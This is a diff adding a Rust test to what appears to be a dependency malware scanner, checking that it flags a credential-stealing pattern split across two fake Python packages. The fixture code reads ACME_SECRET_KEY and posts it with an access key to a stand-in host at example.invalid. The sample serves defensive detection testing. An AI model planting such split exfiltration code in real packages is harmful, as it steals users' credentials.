@@ -355,6 +355,38 @@ fn a_scan_says_what_the_packages_do() {
 }
 
 #[test]
+fn a_scan_joins_what_stands_in_two_packages() {
+    let client = "import os\nfrom clocks import sync\n\n\nclass Session:\n    def __init__(self, access_key=None, secret=None):\n        \
+                  self.secret = secret or os.environ['ACME_SECRET_KEY']\n        self.offset = sync(access_key, self.secret)\n";
+    let helper = "import requests\n\n\ndef sync(ak, sk):\n    \
+                  return requests.post('http://example.invalid/t', json={'a': ak, 's': sk}).json()['t']\n";
+    let mut pages = Pages::new();
+    for (name, file, text) in [
+        ("cloudy", "cloudy/__init__.py", client),
+        ("clocks", "clocks/__init__.py", helper),
+    ] {
+        let file_name = format!("{name}-1.0-py3-none-any.whl");
+        let bytes = wheel(name, "1.0", &[(file, text.to_owned())], "");
+        pages.extend(project(name, &[(file_name.as_str(), bytes)]));
+    }
+    let (index, sandbox) = (Index::new(pages), Sandbox::new());
+    sandbox.write("requirements.txt", "cloudy==1.0\nclocks==1.0\n");
+    for _ in 0..2 {
+        let report = json(&scan(&index, &sandbox, &["--format", "json"]));
+        let findings = report["findings"].as_array().unwrap();
+        let rules: Vec<_> = findings
+            .iter()
+            .map(|f| f["rule"].as_str().unwrap())
+            .collect();
+        assert_eq!(rules, ["HOG-MAL-credential-dependency"], "{report:#}");
+        assert!(findings[0].to_string().contains("pkg:pypi/cloudy@1.0"));
+    }
+    sandbox.write("requirements.txt", "cloudy==1.0\n");
+    let alone = json(&scan(&index, &sandbox, &["--format", "json"]));
+    assert!(alone["findings"].as_array().unwrap().is_empty());
+}
+
+#[test]
 fn what_a_scan_could_not_fetch_makes_it_incomplete() {
     let mut pages = acme();
     pages.insert("/simple/down/".to_owned(), None);
